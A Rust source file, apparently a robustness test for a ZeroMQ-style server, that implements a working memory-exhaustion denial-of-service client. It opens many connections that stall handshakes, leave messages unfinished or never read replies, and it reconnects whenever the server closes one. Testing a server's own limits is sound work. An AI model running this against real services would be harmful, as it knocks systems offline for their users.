//! A peer that harms as much as it may: many connections of one kind to one server, each of which
//! takes as much memory there as it gets. A connection that the server closes is made again.
//!
//!     attacker KIND CONNECTIONS SECONDS ADDRESS:PORT
//!
//! It needs the standard library alone, so `rustc` compiles it to one static file. Its last line
//! says what it has done.

use std::io::{ErrorKind, Write};
use std::net::{SocketAddr, TcpStream};
use std::thread;
use std::time::{Duration, Instant};

/// Turns over all connections, with a pause between two.
const PAUSE: Duration = Duration::from_millis(20);

/// What is written to one connection in one turn.
const PIECE: usize = 64 << 10;

/// The default of `--message-limit`, below which a message is let in.
const MESSAGE: u64 = (8 << 20) - 1;

fn main() {
    let mut args = std::env::args().skip(1);
    let mut next = |what: &str| args.next().unwrap_or_else(|| panic!("no {what}"));
    let kind = next("kind");
    let count: usize = next("number of connections").parse().expect("a number");
    let seconds: u64 = next("number of seconds").parse().expect("a number");
    let address: SocketAddr = next("address").parse().expect("an address");
    let (first, then) = speech(&kind);

    let mut peers: Vec<Option<Peer>> = (0..count).map(|_| None).collect();
    let (mut connected, mut closed, mut written) = (0_u64, 0_u64, 0_u64);
    let end = Instant::now() + Duration::from_secs(seconds);
    while Instant::now() < end {
        for place in &mut peers {
            let peer = match place {
                Some(peer) => peer,
                None => {
                    let Ok(stream) = TcpStream::connect_timeout(&address, Duration::from_secs(1))
                    else {
                        continue;
                    };
                    stream.set_nonblocking(true).expect("a socket");
                    connected += 1;
                    place.insert(Peer { stream, said: 0 })
                }
            };
            match peer.say(&first, &then) {
                Ok(count) => written += count as u64,
                Err(_) => {
                    closed += 1;
                    *place = None;
                }
            }
        }
        thread::sleep(PAUSE);
    }
    let open = peers.iter().flatten().count();
    println!(
        "{kind}: {connected} connections, {closed} of them closed by the server, {open} open at the \
         end; {written} bytes"
    );
}

/// What a connection says first, and what it says over and over after that.
fn speech(kind: &str) -> (Vec<u8>, Vec<u8>) {
    let hello = [greeting(), ready()].concat();
    match kind {
        // Requests, whose replies it never reads.
        "readers" => (hello, frame(&[1; 16 << 10], false)),
        // A message of the largest size, of which the last byte never comes.
        "halves" => {
            let head = [&[2][..], &(MESSAGE + 1).to_be_bytes()].concat();
            ([hello, head, vec![2; MESSAGE as usize]].concat(), Vec::new())
        }
        // A message of many frames, of which the last never comes.
        "frames" => (hello, frame(b"", true).repeat(1000)),
        // Nothing more.
        "idle" => (hello, Vec::new()),
        // A handshake that is never finished.
        "silent" => (greeting(), Vec::new()),
        // Scrapes, whose answers it never reads.
        "scrapes" => (Vec::new(), b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n".repeat(100)),
        _ => panic!("unknown kind {kind}"),
    }
}

fn greeting() -> Vec<u8> {
    let mut greeting = vec![0xff, 0, 0, 0, 0, 0, 0, 0, 1, 0x7f, 3, 0];
    greeting.extend(b"NULL");
    greeting.resize(64, 0);
    greeting
}

fn ready() -> Vec<u8> {
    let body = b"\x05READY\x0bSocket-Type\x00\x00\x00\x06DEALER\x08Identity\x00\x00\x00\x00";
    [&[4, body.len() as u8], &body[..]].concat()
}

fn frame(body: &[u8], more: bool) -> Vec<u8> {
    let more = u8::from(more);
    match u8::try_from(body.len()) {
        Ok(size) => [&[more, size], body].concat(),
        Err(_) => [&[more | 2][..], &(body.len() as u64).to_be_bytes(), body].concat(),
    }
}

struct Peer {
    stream: TcpStream,
    /// How many bytes it has sent.
    said: usize,
}

impl Peer {
    /// Writes what the socket takes, at most a piece. An error means that the connection is closed.
    fn say(&mut self, first: &[u8], then: &[u8]) -> std::io::Result<usize> {
        let start = self.said;
        while self.said - start < PIECE {
            let rest = match self.said < first.len() {
                true => &first[self.said..],
                false if then.is_empty() => return self.is_open().map(|()| self.said - start),
                false => &then[(self.said - first.len()) % then.len()..],
            };
            let piece = &rest[..rest.len().min(PIECE)];
            match self.stream.write(piece) {
                Ok(count) => self.said += count,
                Err(error) if error.kind() == ErrorKind::WouldBlock => break,
                Err(error) => return Err(error),
            }
        }
        Ok(self.said - start)
    }

    /// Whether the connection is still open. Replies stay unread in the kernel.
    fn is_open(&self) -> std::io::Result<()> {
        match self.stream.peek(&mut [0]) {
            Ok(0) => Err(ErrorKind::UnexpectedEof.into()),
            Err(error) if error.kind() != ErrorKind::WouldBlock => Err(error),
            _ => Ok(()),
        }
    }
}
